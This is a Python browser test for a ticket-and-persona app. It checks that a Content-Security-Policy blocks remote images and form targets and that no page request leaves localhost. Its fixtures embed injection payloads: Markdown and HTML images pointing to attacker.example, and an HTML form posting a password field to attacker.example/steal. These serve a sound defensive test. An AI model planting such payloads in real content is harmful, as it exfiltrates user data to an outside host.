"""Remote content from data never loads in the app (issue 19): a ticket holding a Markdown image and an HTML
form, and a persona narrative holding a Markdown image, shown in Chat and Personas in headless Chromium
(the setup of tests/ui/test_ui_browser.py). Every request the page makes is recorded: none leaves
127.0.0.1, no form from data is in the page, and the served page carries a Content-Security-Policy that
forbids remote images and form targets.
"""

from __future__ import annotations

import socket
from pathlib import Path

import httpx
import pytest

from core.settings import Settings

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--no-first-run"]
TICKET = ('Pixel complaint: ![x](http://attacker.example/pixel.png?from=md) and '
          '<form action="http://attacker.example/steal"><input name="pw" id="stolen"></form> '
          '<img src="http://attacker.example/pixel.png?from=html"> the pixel export keeps failing')

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="needs Debian chromium at /usr/bin/chromium"),
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def hostile_app(examples_ws: Path, tmp_path_factory: pytest.TempPathFactory):
    import shutil

    from core.models import PersonaSet
    from ingest.pipeline import ingest_paths
    from ui.serve import serve

    ws = tmp_path_factory.mktemp("hostile") / "ws"
    shutil.copytree(examples_ws, ws, ignore=shutil.ignore_patterns(".*.lock", "llm_log.jsonl"))
    settings = Settings(_env_file=None, workspace=ws)
    src = ws.parent / "tickets.csv"
    src.write_text('id,customer_id,text\nX1,C0001,"' + TICKET.replace('"', '""') + '"\n', encoding="utf-8")
    assert ingest_paths([src], settings=settings).new == 1
    path = sorted((ws / "personas").glob("v*.json"))[-1]
    ps = PersonaSet.model_validate_json(path.read_text(encoding="utf-8"))
    ps.personas[0].narrative += " ![y](http://attacker.example/pixel.png?from=narrative)"
    path.write_text(ps.model_dump_json(), encoding="utf-8")
    port = _free_port()
    app, _ = serve(settings, host="127.0.0.1", port=port, block=False)
    try:
        yield f"http://127.0.0.1:{port}/"
    finally:
        app.close()


def test_the_page_forbids_remote_images_and_form_targets(hostile_app: str) -> None:
    for path in ("", "config", "gradio_api/info"):
        csp = httpx.get(hostile_app + path, timeout=30).headers.get("content-security-policy", "")
        assert "img-src 'self' data: blob:" in csp and "form-action 'self'" in csp, (path, csp)


def test_no_request_leaves_and_no_form_from_data_renders(hostile_app: str) -> None:
    from playwright.sync_api import sync_playwright

    outside: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.set_default_timeout(30_000)
            page.on("request", lambda r: None if r.url.startswith(("http://127.0.0.1", "data:", "blob:"))
                    else outside.append(r.url))
            page.goto(hostile_app)
            page.get_by_role("tab", name="Personas").click()
            page.get_by_text("attacker.example/pixel.png?from=narrative", exact=False).first.wait_for()
            page.get_by_role("tab", name="Chat").click()
            box = page.locator("#chat-input textarea")
            box.fill("what do customers say about the pixel export?")
            box.press("Enter")
            page.wait_for_function(
                "() => [...document.querySelectorAll('[data-testid=bot]')].some(e => e.innerText.includes('pixel'))"
            )
            page.wait_for_timeout(1500)  # give any image or form time to load
            assert page.locator("#stolen").count() == 0
            assert page.locator("form[action*='attacker']").count() == 0
            assert page.locator("img[src*='attacker']").count() == 0
        finally:
            browser.close()
    assert outside == [], outside
